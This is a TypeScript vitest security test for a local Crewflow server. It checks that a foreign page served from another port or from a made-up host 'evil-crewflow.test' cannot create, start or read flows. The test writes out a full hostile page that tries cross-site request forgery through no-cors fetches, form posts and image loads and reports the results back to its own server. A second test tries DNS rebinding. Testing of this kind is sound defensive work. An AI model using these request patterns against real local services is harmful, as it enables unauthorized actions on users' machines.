// A hostile web page against a Crewflow server on loopback (no token: the local default). The page is
// served from a second origin (another port, under a made-up host name that Chromium resolves to
// 127.0.0.1) and tries what a browser allows a foreign page to send without asking: fetch in cors and
// no-cors mode with text/plain bodies, form posts, images; then DNS rebinding (the made-up name pointed
// at the Crewflow port). Nothing may be created, started or read.
import { type Server, createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { useSuite } from "../src/suite";

const EVIL_HOST = "evil-crewflow.test";
const suite = useSuite(import.meta.filename, {}, { args: [`--host-resolver-rules=MAP ${EVIL_HOST} 127.0.0.1`] });

const FLOW_YAML = `schema: crewai.flow/v1
name: PlantedByEvilPage
methods:
  go:
    start: true
    do: {call: expression, expr: "'pwned'"}
`;

/** The attacker's page: every attempt, each one's outcome reported back to the attacker's server. */
function attackPage(target: string, flowId: string, runId: string): string {
  return `<!doctype html><html><body><h1>Totally harmless page</h1>
<iframe name="sink" style="display:none"></iframe>
<script>
const target = ${JSON.stringify(target)};
const yaml = ${JSON.stringify(FLOW_YAML)};
const results = {};
const attempt = async (name, work) => {
  try { results[name] = await work(); } catch (error) { results[name] = "error: " + error.message; }
};
const postForm = (action, fields, enctype) => new Promise((resolve) => {
  const form = document.createElement("form");
  form.method = "POST"; form.action = action; form.target = "sink";
  if (enctype) form.enctype = enctype;
  for (const [name, value] of Object.entries(fields)) {
    const input = document.createElement("textarea"); input.name = name; input.value = value; form.appendChild(input);
  }
  document.body.appendChild(form);
  // The answer (refused or not) loads into the hidden frame: that is when the post is done.
  const frame = document.querySelector("iframe");
  frame.onload = () => resolve("submitted"); form.submit();
});
const image = (src) => new Promise((resolve) => {
  const img = new Image(); img.onload = () => resolve("loaded"); img.onerror = () => resolve("error"); img.src = src;
});
(async () => {
  await attempt("fetch text/plain flow (no-cors)", async () => (await fetch(target + "/api/flows", { method: "POST", mode: "no-cors", headers: { "content-type": "text/plain" }, body: yaml })).type);
  await attempt("fetch text/plain flow (cors)", async () => (await fetch(target + "/api/flows", { method: "POST", headers: { "content-type": "text/plain" }, body: yaml })).status);
  await attempt("fetch kickoff (no-cors)", async () => (await fetch(target + "/api/flows/${flowId}/kickoff", { method: "POST", mode: "no-cors" })).type);
  await attempt("fetch resume (no-cors)", async () => (await fetch(target + "/api/runs/${runId}/resume", { method: "POST", mode: "no-cors" })).type);
  await attempt("fetch trpc runs.start (no-cors)", async () => (await fetch(target + "/trpc/runs.start", { method: "POST", mode: "no-cors", headers: { "content-type": "text/plain" }, body: JSON.stringify({ flowId: "${flowId}" }) })).type);
  await attempt("fetch trpc flows.list (cors read)", async () => (await (await fetch(target + "/trpc/flows.list")).text()).slice(0, 80));
  await attempt("form post flow", () => postForm(target + "/api/flows", { yaml }, "text/plain"));
  await attempt("form post kickoff", () => postForm(target + "/api/flows/${flowId}/kickoff", { inputs: "{}" }));
  await attempt("form post trpc runs.start", () => postForm(target + "/trpc/runs.start", { flowId: "${flowId}" }, "multipart/form-data"));
  await attempt("image run", () => image(target + "/api/runs/${runId}"));
  await attempt("image trpc", () => image(target + "/trpc/flows.list"));
  await fetch("/done", { method: "POST", body: JSON.stringify(results) });
})();
</script></body></html>`;
}

describe("a foreign web page against a local server", () => {
  let attacker: Server;
  let attackerPort = 0;
  let reported: ((results: Record<string, unknown>) => void) | null = null;
  let page = "";

  beforeAll(async () => {
    attacker = createServer((req, res) => {
      if (req.method === "POST" && req.url === "/done") {
        let body = "";
        req.on("data", (chunk: Buffer) => (body += chunk.toString("utf8")));
        req.on("end", () => {
          reported?.(JSON.parse(body) as Record<string, unknown>);
          res.end("ok");
        });
        return;
      }
      res.setHeader("content-type", "text/html");
      res.end(page);
    });
    await new Promise<void>((done) => attacker.listen(0, "127.0.0.1", done));
    attackerPort = (attacker.address() as AddressInfo).port;
  });

  afterAll(async () => {
    attacker.closeAllConnections();
    await new Promise<void>((done) => attacker.close(() => done()));
  });

  it("creates, starts and reads nothing, from another port or a made-up host name", async () => {
    const { api, url } = suite.server;
    const { flow } = await api.flows.create.mutate({ name: "Victim" });
    const started = await api.runs.start.mutate({ flowId: flow.id });
    const flowsBefore = (await api.flows.list.query({ limit: 200 })).items.length;
    const runsBefore = (await api.runs.list.query({})).items.length;

    for (const origin of [`http://127.0.0.1:${attackerPort}`, `http://${EVIL_HOST}:${attackerPort}`]) {
      page = attackPage(url, flow.id, started.runId);
      const results = new Promise<Record<string, unknown>>((resolve) => (reported = resolve));
      await suite.open(`${origin}/`);
      const outcome = await results;
      // The page ran every attempt (each has an outcome); none could read the API.
      expect(Object.keys(outcome)).toHaveLength(11);
      expect(String(outcome["fetch trpc flows.list (cors read)"])).toMatch(/^error: /);
    }

    expect((await api.flows.list.query({ limit: 200 })).items.length).toBe(flowsBefore);
    expect((await api.flows.list.query({ limit: 200 })).items.some((f) => f.name === "PlantedByEvilPage")).toBe(false);
    expect((await api.runs.list.query({})).items.length).toBe(runsBefore);
  });

  it("refuses the API under a rebound host name (DNS rebinding)", async () => {
    const port = new URL(suite.server.url).port;
    const tab = await suite.open(`http://${EVIL_HOST}:${port}/api/health`);
    expect(await tab.locator("body").innerText()).toContain("CREWFLOW_ALLOWED_HOSTS");
    // From a page on the rebound name, the API is same-origin for the browser: the server must refuse it.
    const read = await tab.evaluate(async () => {
      const response = await fetch("/trpc/flows.list");
      return { status: response.status, text: await response.text() };
    });
    expect(read.status).toBe(403);
    expect(read.text).not.toContain("Victim");
    // The app itself, under its own address, still works.
    const own = await suite.open("/api/health");
    expect(await own.locator("body").innerText()).toContain('"ok":true');
  });
});
